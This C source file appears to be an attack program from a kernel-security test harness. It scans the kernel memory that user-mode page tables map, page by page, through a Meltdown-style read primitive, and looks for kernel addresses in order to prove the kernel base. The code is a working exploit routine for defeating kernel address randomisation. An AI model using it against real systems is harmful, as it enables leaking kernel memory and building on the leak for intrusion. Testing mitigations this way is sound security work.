/* Reads every byte of the kernel half that user mode's root maps, looking for the kernel's
 * addresses. */
#include <errno.h>
#include <stdbool.h>
#include <string.h>

#include "attack.h"

#define ENTRY_AREA 0xffffe00000000000UL
#define DIRECT_MAP_SIZE (8UL << 40)

/* A page, behind the last bytes of the one before. */
static struct {
	uint8_t carry[8];
	uint8_t page[BW_PAGE_SIZE];
	unsigned long nr_read;
} window;

static bool is_telling(uint64_t value, const struct bw_leak *leak)
{
	return (value >= leak->image_base && value < leak->image_text_end) ||
	       value - leak->direct_map_base < DIRECT_MAP_SIZE;
}

static void read_page(uint64_t address)
{
	for (size_t offset = 0; offset < BW_PAGE_SIZE; offset += sizeof(uint64_t)) {
		uint64_t word = 0;

		attack_check("vuln_meltdown", bw_vuln_meltdown(address + offset, &word));
		memcpy(window.page + offset, &word, sizeof(word));
	}
	window.nr_read++;
}

/* The offset of an address of the kernel in the page, at any byte; -1: there is none. */
static long find_in_page(const struct bw_leak *leak, uint64_t *value)
{
	const uint8_t *start = window.carry + 1, *end = window.page + BW_PAGE_SIZE;

	for (const uint8_t *at = start; at + sizeof(*value) <= end; at++) {
		memcpy(value, at, sizeof(*value));
		if (is_telling(*value, leak)) {
			return at - window.page;
		}
	}
	return -1;
}

/* Page by page from an address up to another, 0 for the end; true where one told something. */
static bool search(uint64_t address, uint64_t end, const struct bw_leak *leak)
{
	uint64_t found, value;
	long status, offset;

	while ((status = bw_vuln_probe(address, &found)) == 0 && found <= end - 1) {
		if (found != address) {
			memset(window.carry, 0, sizeof(window.carry));
		}
		read_page(found);
		offset = find_in_page(leak, &value);
		if (offset >= 0) {
			attack_say("0x%lx holds 0x%lx", found + (uint64_t)offset, value);
			return true;
		}
		memcpy(window.carry, window.page + BW_PAGE_SIZE - 8, sizeof(window.carry));
		address = found + BW_PAGE_SIZE;
		if (address == end) {
			break;
		}
	}
	attack_check("vuln_probe", status);
	return false;
}

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);
	/*
	 * The entry area first: where the kernel is mapped too there is no need to read it all. The
	 * leak stands for what an attacker knows of the image's layout, to tell the base by one
	 * address in it.
	 */
	if (search(ENTRY_AREA, 0, &leak) || search(0, ENTRY_AREA, &leak)) {
		attack_check("base_prove", bw_base_prove(leak.image_base));
	} else {
		attack_say("%lu pages, no address of the kernel in them", window.nr_read);
	}
	return attack_finish();
}
